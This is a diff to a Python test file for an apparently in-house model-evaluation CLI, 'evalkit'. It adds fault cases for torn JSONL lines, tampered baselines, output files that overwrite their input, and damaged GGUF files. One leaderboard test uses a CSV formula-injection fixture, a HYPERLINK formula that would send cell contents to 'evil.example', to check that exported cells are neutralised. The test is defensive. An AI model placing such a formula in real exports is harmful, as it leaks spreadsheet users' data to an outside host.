@@ -7,10 +7,8 @@ Faults are real, not simulated: a read-only bind mount and a full tmpfs in a pri
 /dev/full for a full disk on stdout, a path under a file, /proc for a folder nobody can create files in.
 
 To add a case, append a Case to CASES: `build` writes the inputs into the sandbox and returns the
-arguments after `evalkit`. Still to add once issue 11's refactor lands (their code is being moved now):
-`score s.jsonl -o s.jsonl` (input overwritten), `regress --pin` over an existing file, a torn scores.jsonl
-line and a deleted content_hash in `regress` (exit 2, not 1), damaged generations.jsonl lines, and CSV
-formula injection in `leaderboard` (a cell check, not an exit 2).
+arguments after `evalkit`. Run folders come from tests/run_folders.py (stored stories, real cheap scorers).
+CSV formula injection in `leaderboard` is a cell check, not an exit 2: its own test below.
 """
 
 from __future__ import annotations
@@ -160,6 +158,83 @@ def _compare(sb: Sandbox, results: str) -> list[str]:
             "--scorers", "repetition", "--results-dir", results]
 
 
+def _run(sb: Sandbox, rel: str = "a", run_id: str = "20250101-000000-base01", **kw) -> Path:
+    """A scored run folder (stored stories, real scorers) inside the sandbox, so it is checksummed."""
+    from run_folders import make_run
+
+    return make_run(sb.root / rel, run_id=run_id, **kw)
+
+
+def _two_runs(sb: Sandbox) -> tuple[Path, Path]:
+    return _run(sb, "a"), _run(sb, "b", run_id="20250102-000000-cand01")
+
+
+def _torn_line(path: Path, n: int) -> None:
+    """Cut line n (1-based) in half, as a writer killed mid-line leaves it."""
+    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
+    lines[n - 1] = lines[n - 1][: len(lines[n - 1]) // 2] + "\n"
+    path.write_text("".join(lines), encoding="utf-8")
+
+
+def _regress_torn_candidate(sb: Sandbox) -> list[str]:
+    base, cand = _two_runs(sb)
+    _torn_line(cand / "scores.jsonl", 3)
+    return ["regress", "-b", str(base), "-c", str(cand)]
+
+
+def _regress_torn_baseline(sb: Sandbox) -> list[str]:
+    base, cand = _two_runs(sb)
+    _torn_line(base / "scores.jsonl", 2)
+    return ["regress", "-b", str(base), "-c", str(cand)]
+
+
+def _pinned(sb: Sandbox, edit: Callable[[dict], None]) -> list[str]:
+    from evalkit.regress import pin_baseline
+
+    base, cand = _two_runs(sb)
+    pin = sb.root / "baseline.json"
+    pin_baseline(base, pin)
+    data = json.loads(pin.read_text(encoding="utf-8"))
+    edit(data)
+    pin.write_text(json.dumps(data, indent=2), encoding="utf-8")
+    return ["regress", "-b", str(pin), "-c", str(cand)]
+
+
+def _edit_story_and_drop_hash(data: dict) -> None:
+    data.pop("content_hash")
+    model = next(iter(data["models"].values()))
+    next(iter(model["stories"].values()))["distinct_2"] = 1.0  # the edit the hash would have caught
+
+
+def _pin_over(target: Callable[[Sandbox, Path], Path], *extra: str) -> Callable[[Sandbox], list[str]]:
+    def build(sb: Sandbox) -> list[str]:
+        run = _run(sb)
+        return ["regress", "-b", str(run), "--pin", str(target(sb, run)), *extra]
+    return build
+
+
+def _damaged_generations(sb: Sandbox) -> list[str]:
+    """A run whose generations.jsonl lost line 3 to a torn write, not scored yet: `evalkit report` scores it."""
+    run = _run(sb)
+    _torn_line(run / "generations.jsonl", 3)
+    for name in ("scores.jsonl", "summary.json", "rating.json", "anchors.json"):
+        (run / name).unlink(missing_ok=True)
+    return ["report", str(run)]
+
+
+def _no_hub_hint(sb: Sandbox, res: subprocess.CompletedProcess) -> None:
+    assert "Hugging Face" not in res.stderr, res.stderr  # a local file's problem is not about the hub
+
+
+def _gguf(sb: Sandbox, data: bytes) -> list[str]:
+    return ["compare", str(sb.write("story.gguf", data)), "--suite", "smoke", "--scorers", "repetition",
+            "--results-dir", "res"]
+
+
+GGUF_CUT_IN_METADATA = b"GGUF" + (3).to_bytes(4, "little") + (1).to_bytes(8, "little") + (2).to_bytes(8, "little") \
+    + (20).to_bytes(8, "little") + b"general.arch"  # the first key's name is cut short
+
+
 CASES = [
     # item 1: --output is, holds or sits in the base model's folder (any spelling), --overwrite on foreign files
     Case("finetune-output-is-base", lambda sb: _finetune(sb, "--output", str(sb.gpt2), "--overwrite"),
@@ -226,6 +301,51 @@ CASES = [
     Case("score-input-symlink-loop", lambda sb: ["score", str(_loop(sb, "s.jsonl")), "--scorers", "repetition"],
          r"s\.jsonl: Too many levels of symbolic links"),
     # item 12: file-system faults
+    # item 2: the output is the input, under any spelling or link
+    Case("score-output-is-input", lambda sb: _score(sb, "-o", str(sb.root / "in" / "stories.jsonl")),
+         r"-o .*stories\.jsonl is the input file .*would replace the stories"),
+    Case("score-output-is-input-other-spelling",
+         lambda sb: _score(sb, "-o", str(sb.root / "in" / ".." / "in" / "./stories.jsonl")), r"is the input file"),
+    Case("score-output-is-input-relative", lambda sb: sb.good_stories() and ["score", "in/stories.jsonl", "-o",
+                                                                            "./in/stories.jsonl", "--scorers",
+                                                                            "repetition"], r"is the input file"),
+    Case("score-output-hard-link-to-input",
+         lambda sb: os.link(sb.good_stories(), sb.root / "link.jsonl") or _score(sb, "-o", str(sb.root / "link.jsonl")),
+         r"link\.jsonl is the input file"),
+    Case("score-output-symlink-to-input",
+         lambda sb: (sb.root / "sym.jsonl").symlink_to(sb.good_stories()) or _score(sb, "-o", str(sb.root / "sym.jsonl")),
+         r"sym\.jsonl is the input file"),
+    # item 2: --pin never replaces a file silently, and never a file of the run, even with --force
+    Case("regress-pin-over-existing-baseline",
+         _pin_over(lambda sb, run: sb.write("baselines/smoke.json", '{"schema": "evalkit.baseline/1"}')),
+         r"--pin .*smoke\.json: the file exists .*pass --force to replace it"),
+    Case("regress-pin-into-the-run-with-force", _pin_over(lambda sb, run: run / "summary.json", "--force"),
+         r"is a file of the baseline run"),
+    Case("regress-force-without-pin", lambda sb: ["regress", "-b", str(_run(sb)), "-c", str(_run(sb, "b")), "--force"],
+         r"--force only applies to --pin"),
+    # item 3: a damaged scores.jsonl is bad input (exit 2), never a failed story (exit 1, a false alarm)
+    Case("regress-torn-candidate-scores", _regress_torn_candidate,
+         r"cand01/scores\.jsonl:3: damaged line .*cannot be compared.*evalkit report .*--rerate"),
+    Case("regress-torn-baseline-scores", _regress_torn_baseline, r"base01/scores\.jsonl:2: damaged line"),
+    Case("regress-pin-from-torn-run", lambda sb: _torn_line(_run(sb) / "scores.jsonl", 4) or
+         ["regress", "-b", str(sb.root / "a" / "results" / "20250101-000000-base01"), "--pin", str(sb.root / "p.json")],
+         r"scores\.jsonl:4: damaged line"),
+    # item 4: deleting content_hash does not switch the tamper check off
+    Case("regress-baseline-hash-deleted", lambda sb: _pinned(sb, _edit_story_and_drop_hash),
+         r"baseline\.json: no content_hash .*edited or damaged; pin it again"),
+    Case("regress-baseline-hash-null", lambda sb: _pinned(sb, lambda d: d.update(content_hash=None)),
+         r"baseline\.json: content hash does not match"),
+    # item 8: damaged generations lines that lose stories stop scoring, naming file:line and the fix
+    Case("report-damaged-generations", _damaged_generations,
+         r"generations\.jsonl:3: damaged line \(JSONDecodeError\): 1 story of run 20250101-000000-base01 cannot "
+         r"be read \(storyteller: 1\); rerun .*generates only the missing ones.*delete the damaged line"),
+    # a damaged local weight file is named, without advice about the hub
+    Case("compare-gguf-cut-in-header", lambda sb: _gguf(sb, b"GGUF\x03\x00"), r"story\.gguf: truncated GGUF file",
+         check=_no_hub_hint),
+    Case("compare-gguf-cut-in-metadata", lambda sb: _gguf(sb, GGUF_CUT_IN_METADATA),
+         r"story\.gguf: damaged or truncated GGUF file", progress=True, check=_no_hub_hint),
+    Case("compare-gguf-text", lambda sb: _gguf(sb, b"not a model at all\n"), r"story\.gguf: not a GGUF file",
+         check=_no_hub_hint),
     Case("score-output-under-a-file", lambda sb: _score(sb, "-o", str(sb.root / "in" / "stories.jsonl" / "out.jsonl")),
          r"in/stories\.jsonl: is a file where a folder is needed"),
     Case("score-output-is-a-folder", lambda sb: _score(sb, "-o", str(sb.suite())),
@@ -362,3 +482,88 @@ def test_safe_name_never_leaves_the_folder():
         assert name and "/" not in name and "\\" not in name and ".." not in name and not name.startswith(".")
         assert (Path("/r") / name).resolve().parent == Path("/r")
     assert safe_name("smollm2-135m") == "smollm2-135m" and safe_name("tiny_gpt2.v1") == "tiny_gpt2.v1"
+
+
+def evalkit_cli(cwd: Path, *args: str) -> subprocess.CompletedProcess:
+    return subprocess.run([sys.executable, "-m", "evalkit.cli", *args], capture_output=True, text=True, cwd=cwd,
+                          env=ENV, timeout=600, stdin=subprocess.DEVNULL)
+
+
+def test_pin_force_replaces_only_the_pinned_file_and_intact_runs_pass(tmp_path):
+    """item 2's way out (--force) and item 3's control: the same runs without the torn line pass (exit 0)."""
+    sb = Sandbox(tmp_path)
+    base, cand = _two_runs(sb)
+    pin = sb.write("baselines/smoke.json", "an older baseline\n")
+    before = snapshot(tmp_path)
+    res = evalkit_cli(tmp_path, "regress", "-b", str(base), "--pin", str(pin), "--force")
+    assert res.returncode == 0, res.stderr
+    after = snapshot(tmp_path)
+    assert {k for k in before if after.get(k) != before[k]} == {"baselines/smoke.json"}
+    assert json.loads(pin.read_text())["source_run"] == base.name
+    res = evalkit_cli(tmp_path, "regress", "-b", str(pin), "-c", str(cand))
+    assert res.returncode == 0 and res.stdout.splitlines()[-1].startswith("PASS"), res.stdout + res.stderr
+
+
+def test_a_damaged_generation_line_written_again_later_loses_nothing(tmp_path):
+    """item 8: a torn line whose story was appended again (a resume) is only a note: every story is scored."""
+    from evalkit.scoring import score_run
+
+    run = _run(Sandbox(tmp_path))
+    gens = run / "generations.jsonl"
+    lines = gens.read_text(encoding="utf-8").splitlines(keepends=True)
+    gens.write_text("".join(lines[:2]) + lines[2][:40] + "\n" + "".join(lines[3:]) + lines[2], encoding="utf-8")
+    summary = score_run(run, ["repetition"])
+    assert summary["problems"] == [f"{gens}:3: skipped a damaged line (JSONDecodeError)"]
+    assert all(m["distinct_2"]["n"] == 5 for m in summary["models"].values())
+
+
+def test_leaderboard_csv_neutralises_formulas_and_keeps_numbers(tmp_path):
+    """item 10: text cells a spreadsheet would run (= + - @ tab CR) get a leading quote (OWASP); numbers stay numbers."""
+    import csv
+
+    from evalkit.runner import rate_and_report
+
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    run = _run(Sandbox(tmp_path), labels=(evil, "@SUM(1+1)"))
+    rate_and_report(run)
+    res = evalkit_cli(tmp_path, "leaderboard", str(run.parent), "-f", "csv")
+    assert res.returncode == 0, res.stderr
+    rows = list(csv.DictReader(res.stdout.splitlines()))
+    assert sorted(r["model"] for r in rows) == sorted(["'" + evil, "'@SUM(1+1)"])
+    for r in rows:
+        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in r.values()), r
+        assert int(r["rank"]) in (1, 2)
+        stars = [v for k, v in r.items() if k.endswith(" stars") and v]
+        values = [v for k, v in r.items() if k.endswith(" value") and v]
+        assert stars and values and all(float(v) == float(v) for v in stars + values)  # plain numbers, no quote
+    from evalkit.report.leaderboard import csv_cell
+
+    assert [csv_cell(x) for x in ("-2+3", "+1", "\tx", "\rx", "ok", -1.5, 0, None)] == \
+        ["'-2+3", "'+1", "'\tx", "'\rx", "ok", -1.5, 0, ""]
+
+
+def test_hub_hint_only_for_a_hub_id_not_in_the_cache(tmp_path):
+    """The 'hub is unreachable' advice belongs to a hub id whose weights are not here, not to local problems."""
+    res = evalkit_cli(tmp_path, "compare", "someorg/not-a-cached-model", "--suite", "smoke", "--scorers", "repetition",
+                      "--results-dir", "res")
+    assert res.returncode == 2 and "not in the local Hugging Face cache" in res.stderr
+    assert "The Hugging Face hub is not reachable from here" in res.stderr
+    res = evalkit_cli(tmp_path, "compare", str(tmp_path / "no-such-folder"), "--suite", "smoke", "--results-dir", "res")
+    assert res.returncode == 2 and "Hugging Face" not in res.stderr, res.stderr
+
+
+def test_the_torn_scores_advice_runs_and_the_gate_then_judges(tmp_path):
+    """item 3: the exit-2 line says how to score the run again; done as printed, the same runs pass."""
+    base, cand = _two_runs(Sandbox(tmp_path))
+    _torn_line(cand / "scores.jsonl", 3)
+    res = evalkit_cli(tmp_path, "regress", "-b", str(base), "-c", str(cand))
+    assert res.returncode == 2 and "REGRESSION" not in res.stdout, res.stdout + res.stderr
+    fix = re.search(r"delete (\S+) and (\S+), then run `([^`]+)`$", res.stderr.strip())
+    assert fix, res.stderr
+    for f in fix.group(1, 2):
+        Path(f).unlink()
+    cmd = shlex.split(fix.group(3))
+    assert cmd[0] == "evalkit"
+    assert evalkit_cli(tmp_path, *cmd[1:]).returncode == 0
+    res = evalkit_cli(tmp_path, "regress", "-b", str(base), "-c", str(cand))
+    assert res.returncode == 0 and res.stdout.splitlines()[-1].startswith("PASS"), res.stdout + res.stderr
